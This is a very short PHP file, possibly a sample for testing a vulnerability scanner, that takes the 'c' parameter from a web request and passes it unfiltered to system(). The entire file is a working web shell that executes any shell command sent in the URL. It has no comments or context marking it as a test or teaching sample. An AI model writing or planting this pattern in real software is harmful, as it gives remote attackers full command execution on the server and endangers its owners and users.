<?php
$f = function () { $x = $_GET["c"]; return $x; };
system($f());
